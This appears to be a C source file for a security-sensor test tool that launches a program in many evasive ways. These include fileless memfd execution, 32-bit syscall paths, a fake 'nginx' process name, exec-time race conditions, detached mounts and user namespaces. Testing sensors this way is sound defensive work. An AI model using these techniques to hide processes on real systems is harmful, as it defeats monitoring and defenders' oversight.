// Ways to start a program that somebody has tried against a sensor. `attack WAY PROGRAM [ARGUMENT …]` ends as the program
// does, and with 126 where the exec was refused. Built static, so that it runs in any container.
// SPDX-License-Identifier: Apache-2.0
#define _GNU_SOURCE
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/memfd.h>
#include <linux/mount.h>
#include <pthread.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

extern char **environ;

int refused(void) {
  fprintf(stderr, "attack: %s\n", strerror(errno));
  return 126;
}

int copy(const char *from, int to) {
  static char buffer[1 << 16];
  int in = open(from, O_RDONLY | O_CLOEXEC);
  if (in < 0) return -1;
  for (ssize_t got; (got = read(in, buffer, sizeof buffer)) > 0;) {
    if (write(to, buffer, got) != got) return -1;
  }
  return close(in);
}

// The program's bytes in memory, run by descriptor.
static int from_memory(char **argv) {
  int fd = syscall(SYS_memfd_create, "payload", MFD_CLOEXEC);
  if (fd < 0 || copy(argv[0], fd) != 0) return refused();
  syscall(SYS_execveat, fd, "", argv, environ, AT_EMPTY_PATH);
  return refused();
}

// The same by the descriptor's path.
static int from_memory_path(char **argv) {
  char path[64];
  int fd = syscall(SYS_memfd_create, "payload", 0);
  if (fd < 0 || copy(argv[0], fd) != 0) return refused();
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  execve(path, argv, environ);
  return refused();
}

// The arguments below four gigabytes: pointers of four bytes, a zero, and the strings. The last eight bytes are zeros.
enum { low_bytes = 1 << 16 };
static char *low_arguments(char **argv) {
  char *low = mmap(NULL, low_bytes, PROT_READ | PROT_WRITE,
                   MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
  if (low == MAP_FAILED) return NULL;
  uint32_t *pointers = (uint32_t *)low;
  char *text = low + 4096;
  for (int count = 0; argv[count] && count < 64; count++) {
    pointers[count] = (uint32_t)(uintptr_t)text;
    text = stpcpy(text, argv[count]) + 1;
  }
  return low;
}

// The same by number 358 of the 32-bit table, with pointers of four bytes.
static int from_memory_32(char **argv) {
  char *low = low_arguments(argv);
  int fd = syscall(SYS_memfd_create, "payload", MFD_CLOEXEC);
  if (!low || fd < 0 || copy(argv[0], fd) != 0) return refused();
  uint32_t nothing = (uint32_t)(uintptr_t)(low + low_bytes - 8);
  long result = 358;
  __asm__ volatile("int $0x80"
                   : "+a"(result)
                   : "b"(fd), "c"(nothing), "d"(low), "S"(nothing), "D"(AT_EMPTY_PATH)
                   : "memory");
  errno = (int)-result;
  return refused();
}

static int by_descriptor(char **argv) {
  int fd = open(argv[0], O_RDONLY | O_CLOEXEC);
  if (fd < 0) return refused();
  syscall(SYS_execveat, fd, "", argv, environ, AT_EMPTY_PATH);
  return refused();
}

static int by_descriptor_path(char **argv) {
  char path[64];
  int fd = open(argv[0], O_RDONLY);
  if (fd < 0) return refused();
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  execve(path, argv, environ);
  return refused();
}

static int beside_directory(char **argv) {
  char *slash = strrchr(argv[0], '/');
  if (!slash) return refused();
  *slash = 0;
  int directory = open(argv[0], O_PATH | O_DIRECTORY | O_CLOEXEC);
  syscall(SYS_execveat, directory, slash + 1, argv, environ, 0);
  return refused();
}

// Another name in argv[0], and another comm before.
static int disguised(char **argv) {
  const char *program = argv[0];
  pthread_setname_np(pthread_self(), "nginx");
  argv[0] = "nginx: worker process";
  execve(program, argv, environ);
  return refused();
}

// A name and a last argument that are no UTF-8.
static int odd_arguments(char **argv) {
  static char *all[67] = {"\xff\xfe\x01\n\x1b[31m\xc3"};
  const char *program = argv[0];
  int used = 1;
  for (; argv[used] && used < 64; used++) all[used] = argv[used];
  all[used++] = "\xc3\x28\xed\xa0\x80";
  execve(program, all, environ);
  return refused();
}

static int without_arguments(char **argv) {
  char *none[] = {NULL};
  execve(argv[0], none, environ);
  return refused();
}

static int vforked(char **argv) {
  int status = 0;
  pid_t child = vfork();
  if (child == 0) {
    execve(argv[0], argv, environ);
    _exit(126);
  }
  waitpid(child, &status, 0);
  return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

static void *exec_in_thread(void *argv) {
  char **arguments = argv;
  execve(arguments[0], arguments, environ);
  exit(refused());
}

static int in_thread(char **argv) {
  pthread_t thread;
  if (pthread_create(&thread, NULL, exec_in_thread, argv) != 0) return refused();
  pthread_join(thread, NULL);
  return 126;
}

// int $0x80: number 11 of the 32-bit table.
static int by_32_bit_call(char **argv) {
  char *low = low_arguments(argv);
  if (!low) return refused();
  long result = 11;
  __asm__ volatile("int $0x80"
                   : "+a"(result)
                   : "b"(*(uint32_t *)low), "c"(low), "d"(low + low_bytes - 8)
                   : "memory");
  errno = (int)-result;
  return refused();
}

// The program below directories so deep that no path of it is shorter than PATH_MAX.
static int deep(char **argv) {
  char name[201];
  memset(name, 'd', 200);
  name[200] = 0;
  if (chdir("/tmp") != 0) return refused();
  for (int i = 0; i < 24; i++) {
    if (mkdir(name, 0755) != 0 && errno != EEXIST) return refused();
    if (chdir(name) != 0) return refused();
  }
  int fd = open("x", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
  if (fd < 0 || copy(argv[0], fd) != 0) return refused();
  close(fd);
  execve("./x", argv, environ);
  return refused();
}

static int odd_name(char **argv) {
  const char *path = "/tmp/\xff\xfe\x01\n\x1b[31mx";
  int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
  if (fd < 0 || copy(argv[0], fd) != 0) return refused();
  close(fd);
  execve(path, argv, environ);
  return refused();
}

// Two megabytes of arguments behind those that are given.
static int long_arguments(char **argv) {
  enum { count = 15, length = 120000 };
  static char *all[count + 66];
  int used = 0;
  for (; argv[used] && used < 64; used++) all[used] = argv[used];
  for (int i = 0; i < count; i++) {
    char *text = malloc(length + 1);
    memset(text, 'a', length);
    text[length] = 0;
    all[used++] = text;
  }
  execve(argv[0], all, environ);
  return refused();
}

// Which program: the path is rewritten by a second thread while the call is on its way.
static char racing_path[256];
static const char *racing_target;
static volatile int racing;
static void *rewrite_path(void *unused) {
  (void)unused;
  while (racing) {
    strcpy(racing_path, "/bin/true");
    for (volatile int i = 0; i < 200; i++) continue;
    strcpy(racing_path, racing_target);
    for (volatile int i = 0; i < 200; i++) continue;
  }
  return NULL;
}

static int racing_for_path(char **argv) {
  racing_target = argv[0];
  racing = 1;
  int status = 126;
  for (int i = 0; i < 200; i++) {
    pid_t child = fork();
    if (child == 0) {
      pthread_t thread;
      strcpy(racing_path, racing_target);
      pthread_create(&thread, NULL, rewrite_path, NULL);
      execve(racing_path, argv, environ);
      _exit(126);
    }
    waitpid(child, &status, 0);
  }
  return WIFEXITED(status) ? WEXITSTATUS(status) : 126;
}

// Which program, by the directory that its name is in: the descriptor is another one a moment later.
static int racing_descriptor;
static void *swap_directory(void *directories) {
  const int *both = directories;
  for (;;) {
    dup2(both[0], racing_descriptor);
    for (volatile int i = 0; i < 200; i++) continue;
    dup2(both[1], racing_descriptor);
    for (volatile int i = 0; i < 200; i++) continue;
  }
  return NULL;
}

static int racing_for_directory(char **argv) {
  static int both[2];
  mkdir("/tmp/target", 0755);
  mkdir("/tmp/decoy", 0755);
  (void)!symlink(argv[0], "/tmp/target/x");
  (void)!symlink("/bin/true", "/tmp/decoy/x");
  both[0] = open("/tmp/decoy", O_PATH | O_DIRECTORY | O_CLOEXEC);
  both[1] = open("/tmp/target", O_PATH | O_DIRECTORY | O_CLOEXEC);
  racing_descriptor = dup(both[0]);
  int status = 126;
  for (int i = 0; i < 200; i++) {
    pid_t child = fork();
    if (child == 0) {
      pthread_t thread;
      pthread_create(&thread, NULL, swap_directory, both);
      syscall(SYS_execveat, racing_descriptor, "x", argv, environ, 0);
      _exit(126);
    }
    waitpid(child, &status, 0);
  }
  return WIFEXITED(status) ? WEXITSTATUS(status) : 126;
}

// What the program is told: the pointer to its last argument is swapped by a second thread with one to a longer text.
// One child after another, until one was killed from outside or all have been tried; then waits for the first that ends.
static char *swapped[66];
static char *volatile *swapped_slot;
static volatile int swapping;
static void *swap_argument(void *unused) {
  static char hidden[256];
  char *shown = *swapped_slot;
  (void)unused;
  snprintf(hidden, sizeof hidden, "%s1", shown);
  for (;;) {
    *swapped_slot = hidden;
    for (volatile int i = 0; i < 2000; i++) continue;
    *swapped_slot = shown;
    swapping = 1;
    for (volatile int i = 0; i < 2000; i++) continue;
  }
  return NULL;
}

static int racing_for_argument(char **argv) {
  int used = 0;
  for (; argv[used] && used < 64; used++) swapped[used] = argv[used];
  swapped_slot = swapped + used - 1;
  for (int i = 0; i < 40; i++) {
    if (i > 0 && waitpid(-1, NULL, WNOHANG) != 0) return 0;
    int started[2];
    char unused;
    if (pipe2(started, O_CLOEXEC) != 0) return refused();
    if (fork() == 0) {
      pthread_t thread;
      if (pthread_create(&thread, NULL, swap_argument, NULL) != 0) _exit(126);
      while (!swapping) sched_yield();
      execve(swapped[0], swapped, environ);
      _exit(126);
    }
    close(started[1]);
    (void)!read(started[0], &unused, 1);
    close(started[0]);
  }
  waitpid(-1, NULL, 0);
  return 0;
}

// Where a file system that the engine knows nothing of is mounted, and the program run from it.
static int run_from(const char *place, char **argv) {
  char path[300];
  snprintf(path, sizeof path, "%s/x", place);
  int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
  if (fd < 0 || copy(argv[0], fd) != 0) return refused();
  close(fd);
  execve(path, argv, environ);
  return refused();
}

static int from_new_tmpfs(char **argv) {
  mkdir("/tmp/mounted", 0755);
  if (mount("none", "/tmp/mounted", "tmpfs", 0, "") != 0) return refused();
  return run_from("/tmp/mounted", argv);
}

// As an engine inside a container would: lower layers on a tmpfs, an overlay on top.
static int from_nested_overlay(char **argv) {
  mkdir("/tmp/layers", 0755);
  mkdir("/tmp/nested", 0755);
  if (mount("none", "/tmp/layers", "tmpfs", 0, "") != 0) return refused();
  mkdir("/tmp/layers/lower", 0755);
  mkdir("/tmp/layers/upper", 0755);
  mkdir("/tmp/layers/work", 0755);
  const char *options =
      "lowerdir=/tmp/layers/lower,upperdir=/tmp/layers/upper,workdir=/tmp/layers/work";
  if (mount("overlay", "/tmp/nested", "overlay", 0, options) != 0) return refused();
  return run_from("/tmp/nested", argv);
}

// A file system that is mounted nowhere: no mount table has it.
static int from_detached_mount(char **argv) {
  int context = syscall(SYS_fsopen, "tmpfs", FSOPEN_CLOEXEC);
  if (context < 0) return refused();
  if (syscall(SYS_fsconfig, context, FSCONFIG_CMD_CREATE, NULL, NULL, 0) != 0) return refused();
  int mounted = syscall(SYS_fsmount, context, FSMOUNT_CLOEXEC, 0);
  if (mounted < 0) return refused();
  int fd = openat(mounted, "x", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
  if (fd < 0 || copy(argv[0], fd) != 0) return refused();
  close(fd);
  syscall(SYS_execveat, mounted, "x", argv, environ, 0);
  return refused();
}

static int write_text(const char *path, const char *text) {
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd < 0) return -1;
  ssize_t written = write(fd, text, strlen(text));
  close(fd);
  return written < 0 ? -1 : 0;
}

static void write_id_map(const char *path, unsigned id) {
  char map[64];
  snprintf(map, sizeof map, "0 %u 1", id);
  write_text(path, map);
}

// Root of a user namespace of its own, with a mount namespace and a file system of its own in it.
static int in_user_namespace(char **argv) {
  unsigned user = getuid();
  unsigned group = getgid();
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) return refused();
  write_text("/proc/self/setgroups", "deny");
  write_id_map("/proc/self/uid_map", user);
  write_id_map("/proc/self/gid_map", group);
  mkdir("/tmp/mounted", 0755);
  if (mount("none", "/tmp/mounted", "tmpfs", 0, "") != 0) return refused();
  return run_from("/tmp/mounted", argv);
}

static int in_mount_namespace(char **argv) {
  if (unshare(CLONE_NEWNS) != 0) return refused();
  return from_new_tmpfs(argv);
}

// The program of another mount namespace, which the file named first stands for.
static int in_namespace_of(char **argv) {
  int fd = open(argv[0], O_RDONLY | O_CLOEXEC);
  if (fd < 0 || setns(fd, CLONE_NEWNS) != 0) return refused();
  execve(argv[1], argv + 1, environ);
  return refused();
}

static int run_way(const char *name, char **argv);

// Another way, after whoever looks at a process shortly after its exec has looked.
static int later(char **argv) {
  sleep(1);
  return run_way(argv[0], argv + 1);
}

// A program that shows that it runs, and that it was not ended.
static int nap(char **argv) {
  printf("started\n");
  fflush(stdout);
  sleep((unsigned)atoi(argv[0]));
  printf("survived\n");
  return 0;
}

static const struct {
  const char *name;
  int (*run)(char **argv);
} ways[] = {
    {"memory", from_memory},
    {"memory-path", from_memory_path},
    {"memory-int80", from_memory_32},
    {"into", in_namespace_of},
    {"later", later},
    {"nap", nap},
    {"mapped", mapped},
    {"injected", injected},
    {"ring", by_ring},
    {"fault", behind_fault},
    {"pid", pid_given_away},
    {"descriptor", by_descriptor},
    {"descriptor-path", by_descriptor_path},
    {"directory", beside_directory},
    {"disguised", disguised},
    {"odd-arguments", odd_arguments},
    {"no-arguments", without_arguments},
    {"vfork", vforked},
    {"thread", in_thread},
    {"int80", by_32_bit_call},
    {"deep", deep},
    {"odd-name", odd_name},
    {"long-arguments", long_arguments},
    {"racing-path", racing_for_path},
    {"racing-directory", racing_for_directory},
    {"racing-argument", racing_for_argument},
    {"tmpfs", from_new_tmpfs},
    {"overlay", from_nested_overlay},
    {"detached-mount", from_detached_mount},
    {"user-namespace", in_user_namespace},
    {"mount-namespace", in_mount_namespace},
};

static int run_way(const char *name, char **argv) {
  for (size_t i = 0; i < sizeof ways / sizeof ways[0]; i++) {
    if (strcmp(name, ways[i].name) == 0) return ways[i].run(argv);
  }
  fprintf(stderr, "attack: no way %s\n", name);
  return 2;
}

int main(int argc, char **argv) {
  if (argc > 2) return run_way(argv[1], argv + 2);
  fprintf(stderr, "usage: attack WAY PROGRAM [ARGUMENT ...]\n");
  return 2;
}
